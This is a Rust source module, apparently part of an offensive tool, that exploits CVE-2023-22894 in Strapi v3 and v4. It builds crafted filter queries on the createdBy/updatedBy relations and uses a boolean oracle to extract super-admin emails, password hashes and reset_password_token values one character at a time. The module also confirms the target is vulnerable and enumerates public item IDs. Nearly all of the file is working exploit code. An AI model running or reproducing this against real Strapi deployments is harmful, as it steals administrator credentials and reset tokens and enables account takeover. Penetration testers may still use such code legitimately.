//! CVE-2023-22894 on Strapi v3 and v4.
//!
//! Public collection endpoints accept filters on the relations
//! `createdBy`/`updatedBy`, which point to admin users. Filtering on
//! `email`, `password` or `reset_password_token` with `$contains` leaks
//! the admin's secrets one character at a time.

use crate::client::HttpTarget;
use crate::models::{
    OrmLeakError, Payload, ProbeResponse, Result, StrapiConfig, StrapiVersion,
};
use crate::oracle::{BooleanOracle, Oracle};
use async_trait::async_trait;
use reqwest::Method;
use serde_json::Value;
use std::sync::Arc;
use tracing::{debug, info};

const LETTERS_DIGITS: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const HEX_DIGITS: &str = "0123456789abcdefABCDEF";

/// A field dumped from every admin account, with its alphabet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DumpField {
    pub name: &'static str,
    pub chars: String,
}

/// Fields dumped per account, `email` first.
pub fn dump_fields() -> Vec<DumpField> {
    vec![
        DumpField {
            name: "email",
            chars: format!("{LETTERS_DIGITS}@."),
        },
        DumpField {
            name: "password",
            chars: format!("{LETTERS_DIGITS}$./="),
        },
        DumpField {
            name: "reset_password_token",
            chars: HEX_DIGITS.to_string(),
        },
    ]
}

/// Query-string filters of one Strapi major version.
#[derive(Debug, Clone, Copy)]
pub struct StrapiFilters {
    version: StrapiVersion,
}

impl StrapiFilters {
    pub fn new(version: StrapiVersion) -> Self {
        Self { version }
    }

    /// Relations pointing to the admin user.
    pub fn user_fields(&self) -> [&'static str; 2] {
        match self.version {
            StrapiVersion::V3 => ["created_by", "updated_by"],
            StrapiVersion::V4 => ["createdBy", "updatedBy"],
        }
    }

    pub fn id(&self, id: &str) -> String {
        match self.version {
            StrapiVersion::V3 => format!("id={id}"),
            StrapiVersion::V4 => format!("filters[$and][][id]={id}"),
        }
    }

    /// Restrict to items whose user is a super admin.
    pub fn admin(&self, user_field: &str) -> String {
        match self.version {
            StrapiVersion::V3 => format!("{user_field}.roles=1"),
            StrapiVersion::V4 => format!("filters[$and][][{user_field}][roles]=1"),
        }
    }

    /// Filter prefix; the URL-encoded candidate is appended to it.
    pub fn dump(&self, user_field: &str, dump_field: &str) -> String {
        match self.version {
            StrapiVersion::V3 => format!("{user_field}.{dump_field}_containss="),
            StrapiVersion::V4 => {
                format!("filters[$and][][{user_field}][{dump_field}][$contains]=")
            }
        }
    }

    pub fn pagination(&self, page: u64) -> String {
        format!("pagination[page]={page}")
    }

    /// Exclude items whose user has the given email.
    pub fn not_seen_email(&self, user_field: &str, email: &str) -> String {
        let email = urlencoding::encode(email);
        match self.version {
            StrapiVersion::V3 => format!("filters[$and][][email][$notIn][]={email}"),
            StrapiVersion::V4 => {
                format!("filters[$and][][{user_field}][email][$notIn][]={email}")
            }
        }
    }

    /// The list of items in a response body.
    pub fn data(&self, response: &ProbeResponse) -> Vec<Value> {
        if response.is_rejected() {
            return Vec::new();
        }
        let body = response.json();
        let data = match self.version {
            StrapiVersion::V3 => body,
            StrapiVersion::V4 => body.and_then(|mut b| b.get_mut("data").map(Value::take)),
        };
        match data {
            Some(Value::Array(items)) => items,
            _ => Vec::new(),
        }
    }

    /// Total number of pages reported by a v4 response.
    pub fn page_count(&self, response: &ProbeResponse) -> u64 {
        response
            .json()
            .as_ref()
            .and_then(|body| body.pointer("/meta/pagination/pageCount"))
            .and_then(Value::as_u64)
            .unwrap_or(1)
    }
}

/// Boolean oracle dumping one field of the user behind one item.
pub struct StrapiFieldOracle {
    target: Arc<HttpTarget>,
    filters: StrapiFilters,
    id_filter: String,
    dump_filter: String,
}

impl StrapiFieldOracle {
    pub fn new(target: Arc<HttpTarget>, filters: StrapiFilters, id_filter: String, dump_filter: String) -> Self {
        Self {
            target,
            filters,
            id_filter,
            dump_filter,
        }
    }
}

#[async_trait]
impl Oracle for StrapiFieldOracle {
    fn name(&self) -> &str {
        "strapi"
    }

    fn create_payload(&self, candidate: &str) -> Payload {
        Payload::Query(format!(
            "{}&{}{}",
            self.id_filter,
            self.dump_filter,
            urlencoding::encode(candidate)
        ))
    }

    async fn send_request(&self, payload: &Payload) -> Result<ProbeResponse> {
        self.target.send_with_method(Method::GET, payload).await
    }
}

#[async_trait]
impl BooleanOracle for StrapiFieldOracle {
    fn was_success_result(&self, response: &ProbeResponse) -> bool {
        !self.filters.data(response).is_empty()
    }

    fn is_contains_attack(&self) -> bool {
        true
    }
}

/// Setup requests of a Strapi campaign.
pub struct StrapiTarget {
    target: Arc<HttpTarget>,
    filters: StrapiFilters,
    dump_first_admin: bool,
}

impl StrapiTarget {
    pub fn new(config: &StrapiConfig, target: Arc<HttpTarget>) -> Self {
        Self {
            target,
            filters: StrapiFilters::new(config.version),
            dump_first_admin: config.dump_first_admin,
        }
    }

    pub fn filters(&self) -> StrapiFilters {
        self.filters
    }

    pub fn dump_first_admin(&self) -> bool {
        self.dump_first_admin
    }

    pub fn url(&self) -> &str {
        self.target.url()
    }

    pub fn requests_sent(&self) -> u64 {
        self.target.requests_sent()
    }

    async fn get(&self, query: String) -> Result<ProbeResponse> {
        self.target
            .send_with_retry(Method::GET, &Payload::Query(query))
            .await
    }

    async fn has_data(&self, query: String) -> Result<bool> {
        let response = self.get(query).await?;
        Ok(!self.filters.data(&response).is_empty())
    }

    /// Confirm the filter on admin fields is honoured.
    ///
    /// Every email contains `@`; no email contains the impossible string.
    pub async fn check_vulnerable(&self) -> Result<()> {
        let email_filter = self.filters.dump(self.filters.user_fields()[0], "email");

        if !self.has_data(format!("{email_filter}%40")).await? {
            return Err(OrmLeakError::NotVulnerable(
                "filtering on the admin email returned nothing".to_string(),
            ));
        }
        let impossible = urlencoding::encode("DEFINITELY NOT IN AN EMAIL");
        if self.has_data(format!("{email_filter}{impossible}")).await? {
            return Err(OrmLeakError::NotVulnerable(
                "filters on admin fields are ignored".to_string(),
            ));
        }

        info!(url = %self.target.url(), "Target is vulnerable to CVE-2023-22894");
        Ok(())
    }

    /// IDs of every publicly listed item.
    pub async fn item_ids(&self) -> Result<Vec<String>> {
        let first = self.get(self.filters.pagination(1)).await?;
        let mut items = self.filters.data(&first);
        let pages = self.filters.page_count(&first);

        for page in 2..=pages {
            let response = self.get(self.filters.pagination(page)).await?;
            items.extend(self.filters.data(&response));
        }

        let ids: Vec<String> = items
            .iter()
            .filter_map(|item| match item.get("id")? {
                Value::String(id) => Some(id.clone()),
                Value::Number(id) => Some(id.to_string()),
                _ => None,
            })
            .collect();

        debug!(pages = pages, items = ids.len(), "Collected item ids");
        Ok(ids)
    }

    /// Whether the user behind `user_field` of an item is a super admin.
    pub async fn made_by_super_admin(&self, id: &str, user_field: &str) -> Result<bool> {
        self.has_data(format!(
            "{}&{}",
            self.filters.id(id),
            self.filters.admin(user_field)
        ))
        .await
    }

    /// Whether the user behind `user_field` of an item is one of `seen_emails`.
    pub async fn already_dumped(&self, id: &str, user_field: &str, seen_emails: &[String]) -> Result<bool> {
        if seen_emails.is_empty() {
            return Ok(false);
        }
        let mut query = vec![self.filters.id(id)];
        query.extend(
            seen_emails
                .iter()
                .map(|email| self.filters.not_seen_email(user_field, email)),
        );
        Ok(!self.has_data(query.join("&")).await?)
    }

    /// Oracle dumping `field` of the user behind `user_field` of an item.
    pub fn field_oracle(&self, id: &str, user_field: &str, field: &str) -> StrapiFieldOracle {
        StrapiFieldOracle::new(
            Arc::clone(&self.target),
            self.filters,
            self.filters.id(id),
            self.filters.dump(user_field, field),
        )
    }
}
